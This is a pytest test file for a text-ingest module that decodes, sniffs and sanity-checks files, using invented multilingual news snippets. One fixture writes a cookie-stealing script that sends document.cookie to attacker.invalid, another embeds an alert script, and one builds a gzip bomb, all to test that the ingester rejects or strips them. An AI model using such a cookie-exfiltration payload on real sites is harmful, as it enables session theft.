"""Plain-text reading, decoding, sniffing and the file-level checks (size cap, empty, binary, unknown extension)."""

from __future__ import annotations

import gzip
import io
import sys
from pathlib import Path

import pytest

from storyweave.config import IngestOptions
from storyweave.ingest import read_bytes, read_sources
from storyweave.types import Problem, RawDocument

OPTIONS = IngestOptions()
SHARED = Path(__file__).parents[2] / "shared"

# Invented reports, one per language.
ARTICLES = {
    "en": "Harbour bridge reopens after storm\n\nThe Kestrel Bay bridge reopened on Monday after engineers checked its "
    "cables.\nTraffic resumed at noon, the port authority said.",
    "es": "Reabre el puente del puerto tras la tormenta\n\nEl puente de Bahía Cernícalo reabrió el lunes "
    "después de que los ingenieros revisaran sus cables.",
    "pt": "Ponte do porto reabre após tempestade\n\nA ponte da Baía do Francelho foi reaberta na segunda-feira, "
    "informou a autoridade portuária.",
    "fr": "Le pont du port rouvre après la tempête\n\nLe pont de la baie de Crécerelle a rouvert lundi, a indiqué "
    "l’autorité portuaire. « C’est un soulagement », a déclaré une habitante.",
    "de": "Hafenbrücke nach Sturm wieder offen\n\nDie Brücke über die Turmfalkenbucht ist seit Montag wieder "
    "befahrbar, teilte die Hafenbehörde mit.",
    "ru": "Мост в порту вновь открыт после шторма\n\nМост через Пустельгин залив вновь открыли в понедельник.",
    "tr": "Liman köprüsü fırtınanın ardından yeniden açıldı\n\nKerkenez Koyu köprüsü pazartesi günü yeniden açıldı.",
}


def docs(items: list[RawDocument | Problem]) -> list[RawDocument]:
    return [item for item in items if isinstance(item, RawDocument)]


def problems(items: list[RawDocument | Problem]) -> list[Problem]:
    return [item for item in items if isinstance(item, Problem)]


@pytest.mark.parametrize("language", sorted(ARTICLES))
def test_text_file_title_is_first_line_body_is_rest(tmp_path: Path, language: str) -> None:
    path = tmp_path / f"{language}.txt"
    path.write_text("\n\n" + ARTICLES[language] + "\n", encoding="utf-8")
    [doc] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(doc, RawDocument)
    title, body = ARTICLES[language].split("\n\n", 1)
    assert doc.title == title
    assert doc.text == body
    assert doc.format == "text"
    assert doc.origin == str(path)


def test_utf8_with_bom_and_crlf(tmp_path: Path) -> None:
    path = tmp_path / "bom.txt"
    path.write_bytes(b"\xef\xbb\xbf" + ARTICLES["fr"].replace("\n", "\r\n").encode("utf-8"))
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title == "Le pont du port rouvre après la tempête"
    assert "\ufeff" not in doc.title
    assert "« C’est un soulagement »" in doc.text


def test_empty_file(tmp_path: Path) -> None:
    path = tmp_path / "empty.txt"
    path.write_bytes(b"")
    assert [str(p) for p in read_sources([str(path)], OPTIONS)] == [f"{path}: empty file"]


def test_whitespace_only_file(tmp_path: Path) -> None:
    path = tmp_path / "blank.md"
    path.write_bytes(b" \n\t\r\n  \n")
    [problem] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message == "empty file"


@pytest.mark.parametrize(
    ("payload", "detail"),
    [
        (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "PNG image"),
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "PDF document"),
        (b"PK\x03\x04\x14\x00\x00\x00" + bytes(200), "ZIP archive"),
        (b"\x7fELF\x02\x01\x01" + bytes(100), "ELF executable"),
        (b"Some words\x00\x00\x00\x01\x02 then more", None),
        (bytes(range(1, 32)) * 20 + b"text", None),
    ],
)
def test_binary_file_is_refused(tmp_path: Path, payload: bytes, detail: str | None) -> None:
    path = tmp_path / "report.txt"
    path.write_bytes(payload)
    [problem] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message.startswith("binary file, not text")
    if detail:
        assert detail in problem.message


def test_windows_1252_text_decodes_right(tmp_path: Path) -> None:
    text = "Le café coûte 3 €\n\nLe prix du “petit noir” a doublé à Crécerelle, dit-on — « c’est trop », déplore Zoé."
    path = tmp_path / "cp1252.txt"
    path.write_bytes(text.encode("cp1252"))
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title == "Le café coûte 3 €"
    assert "“petit noir”" in doc.text
    assert "« c’est trop »" in doc.text


@pytest.mark.parametrize(
    "text",
    [
        "Ação não é fácil\n\nA prefeitura de São Tomé anunciou ações para o próximo verão.",
        "Die Straße ist gesperrt\n\nIn Großenhain müssen Fahrer über die Brücke ausweichen, sagte Müller.",
        "El señor Muñoz dimite\n\nEl alcalde de Peñíscola presentó su dimisión el miércoles.",
    ],
)
def test_latin1_text_decodes_right(tmp_path: Path, text: str) -> None:
    path = tmp_path / "latin1.txt"
    path.write_bytes(text.encode("latin-1"))
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title + "\n\n" + doc.text == text


def test_other_legacy_encodings_are_detected() -> None:
    russian = "Мост в порту вновь открыт\n\nМост через залив вновь открыли в понедельник, сообщили власти города."
    [doc] = docs(list(read_bytes(russian.encode("cp1251"), "ru.txt", OPTIONS, filename="ru.txt")))
    assert doc.title == "Мост в порту вновь открыт"


def test_mixed_encodings_decoded_line_by_line(tmp_path: Path) -> None:
    lines = [
        "Sturm über der Küste".encode(),
        b"",
        "Die Behörde warnte vor Böen über 100 km/h, sagte Jürgen Maß.".encode("cp1252"),
        "Les écoles ferment à midi, précise la préfecture.".encode(),
        "Prix de l’électricité: 0,30 € le “kilowattheure”.".encode("cp1252"),
    ]
    path = tmp_path / "mixed.txt"
    path.write_bytes(b"\n".join(lines))
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title == "Sturm über der Küste"
    assert "Behörde warnte vor Böen über 100 km/h, sagte Jürgen Maß." in doc.text
    assert "Les écoles ferment à midi, précise la préfecture." in doc.text
    assert "0,30 € le “kilowattheure”" in doc.text
    assert "\ufffd" not in doc.text


def test_file_over_size_cap(tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    path.write_text("Title\n\n" + "word " * 500_000, encoding="utf-8")
    [problem] = list(read_sources([str(path)], IngestOptions(max_bytes=1024 * 1024)))
    assert isinstance(problem, Problem)
    assert problem.message == "file is 2.4 MB, over the 1 MB cap (--max-bytes)"


def test_unknown_extension_with_text_is_read_as_text(tmp_path: Path) -> None:
    path = tmp_path / "report.dat"
    path.write_text(ARTICLES["pt"], encoding="utf-8")
    [doc] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(doc, RawDocument)
    assert doc.format == "text"
    assert doc.title == "Ponte do porto reabre após tempestade"


def test_unknown_extension_with_binary_is_unsupported(tmp_path: Path) -> None:
    path = tmp_path / "photo.heic"
    path.write_bytes(b"\x00\x00\x00\x18ftypheic" + bytes(range(256)) * 8)
    [problem] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message.startswith("unsupported format")
    assert ".heic" in problem.message


def test_text_whose_body_is_a_script_tag(tmp_path: Path) -> None:
    path = tmp_path / "evil.txt"
    path.write_text("<script>document.location='https://attacker.invalid/'+document.cookie</script>\n")
    [problem] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message == "no article text (only markup/script)"


def test_text_containing_a_script_keeps_the_prose_only(tmp_path: Path) -> None:
    path = tmp_path / "mixed.txt"
    path.write_text(
        "Council approves budget\n\nThe Kestrel Bay council approved the budget on Friday.\n"
        "<script>alert('stolen')</script>\nThe vote was 7 to 2.\n",
        encoding="utf-8",
    )
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title == "Council approves budget"
    assert "alert" not in doc.text and "stolen" not in doc.text
    assert "The vote was 7 to 2." in doc.text


def test_prose_with_angle_brackets_is_not_markup() -> None:
    text = "Rates rise\n\nInflation was < 3% in March and > 2% in April, the bank said (a <b and c> d)."
    [doc] = docs(list(read_bytes(text.encode(), "x.txt", OPTIONS, filename="x.txt")))
    assert doc.text == "Inflation was < 3% in March and > 2% in April, the bank said (a <b and c> d)."


def test_gzipped_text(tmp_path: Path) -> None:
    path = tmp_path / "note.txt.gz"
    path.write_bytes(gzip.compress(ARTICLES["de"].encode("utf-8")))
    [doc] = docs(list(read_sources([str(path)], OPTIONS)))
    assert doc.title == "Hafenbrücke nach Sturm wieder offen"


def test_truncated_gzip(tmp_path: Path) -> None:
    blob = gzip.compress((ARTICLES["en"] * 50).encode("utf-8"))
    path = tmp_path / "cut.txt.gz"
    path.write_bytes(blob[: len(blob) // 2])
    [problem] = list(read_sources([str(path)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message == "truncated gzip: the compressed data ends early"


def test_gzip_bomb_stops_at_the_cap() -> None:
    blob = gzip.compress(b"a " * 3_000_000)
    [problem] = list(read_bytes(blob, "bomb.gz", IngestOptions(max_bytes=1024 * 1024), filename="bomb.gz"))
    assert isinstance(problem, Problem)
    assert "over 1 MB" in problem.message


def test_directory_walk_sorted_hidden_skipped_batch_goes_on(tmp_path: Path) -> None:
    (tmp_path / "b").mkdir()
    (tmp_path / ".git").mkdir()
    (tmp_path / "b" / "2.txt").write_text(ARTICLES["es"], encoding="utf-8")
    (tmp_path / "1.txt").write_text(ARTICLES["en"], encoding="utf-8")
    (tmp_path / "0.txt").write_bytes(b"")
    (tmp_path / ".hidden.txt").write_text(ARTICLES["fr"], encoding="utf-8")
    (tmp_path / ".git" / "HEAD.txt").write_text(ARTICLES["de"], encoding="utf-8")
    items = list(read_sources([str(tmp_path), str(tmp_path / "missing.txt")], OPTIONS))
    assert [item.origin for item in items] == [
        str(tmp_path / "0.txt"),
        str(tmp_path / "1.txt"),
        str(tmp_path / "b" / "2.txt"),
        str(tmp_path / "missing.txt"),
    ]
    assert [type(item).__name__ for item in items] == ["Problem", "RawDocument", "RawDocument", "Problem"]
    assert str(items[-1]).endswith("missing.txt: no such file or directory")


def test_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    stream = io.TextIOWrapper(io.BytesIO(ARTICLES["tr"].encode("utf-8")), encoding="utf-8")
    monkeypatch.setattr(sys, "stdin", stream)
    [doc] = docs(list(read_sources(["-"], OPTIONS)))
    assert doc.origin == "<stdin>"
    assert doc.title == "Liman köprüsü fırtınanın ardından yeniden açıldı"


def test_one_line_file_is_title_and_body() -> None:
    [doc] = docs(list(read_bytes(b"Breaking: port closed by strike\n", "alert.txt", OPTIONS)))
    assert doc.title == doc.text == "Breaking: port closed by strike"


def test_seed_reports_are_read_when_shared_is_present() -> None:
    seeds = SHARED / "seeds"
    if not seeds.is_dir():
        pytest.skip("../shared/seeds is absent (fresh clone); the invented fixtures above cover the same cases")
    items = list(read_sources([str(seeds)], OPTIONS))
    assert len(items) == len(list(seeds.glob("*.txt")))
    for item in items:
        assert isinstance(item, RawDocument)
        assert item.title and len(item.text) > len(item.title)
        assert "\ufffd" not in item.text


def test_named_pipe_is_not_read(tmp_path: Path) -> None:
    import os

    if not hasattr(os, "mkfifo"):
        pytest.skip("named pipes need a POSIX system")
    fifo = tmp_path / "pipe.txt"
    os.mkfifo(fifo)
    [problem] = list(read_sources([str(fifo)], OPTIONS))
    assert isinstance(problem, Problem)
    assert problem.message.startswith("not a regular file")


def test_bytes_over_the_cap() -> None:
    [problem] = list(read_bytes(b"x" * 2048, "blob", IngestOptions(max_bytes=1024), filename="blob.txt"))
    assert isinstance(problem, Problem)
    assert problem.message == "input is 2 KB, over the 1 KB cap (--max-bytes)"
